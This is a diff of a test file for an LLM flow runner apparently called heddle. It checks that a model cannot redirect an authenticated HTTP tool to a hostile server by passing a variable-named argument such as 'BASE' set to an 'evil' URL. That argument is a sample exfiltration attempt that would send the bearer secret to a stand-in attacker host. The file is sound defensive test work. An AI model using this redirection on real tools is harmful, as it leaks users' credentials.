@@ -19,13 +19,17 @@ afterEach(() => Promise.all([good.close(), evil.close()]));
 function heddle(flow: string): Promise<RanHere> {
   writeFileSync(join(folder, 'flow.yaml'), flow);
   const env = { PATH: process.env['PATH'] ?? '', HEDDLE_SECRET_TOKEN: secret };
-  return runHere(['run', 'flow.yaml', '--allow-scripts', '--json'], { folder, env });
+  return runHere(['run', 'flow.yaml', '--allow-scripts', '--allow-secret', `TOKEN=${good.url}`, '--json'], {
+    folder,
+    env,
+  });
 }
 
 it('a model cannot send a secret elsewhere by an argument with the name of a variable', async () => {
   const tool = (more: string) =>
     `{ description: Search, parameters: { type: object, properties: { q: { type: string } }${more} }, ` +
-    'http: { url: "{{BASE}}/search?q={{q}}", headers: { authorization: "Bearer {{secrets.TOKEN}}" } } }';
+    `http: { url: "${good.url}/search?q={{q}}", ` +
+    'headers: { authorization: "Bearer {{secrets.TOKEN}}" } } }';
   const args = `arguments: { q: x, BASE: "${evil.url}" }`;
   const { code, out } = await heddle(`
 default_model: sim:fast
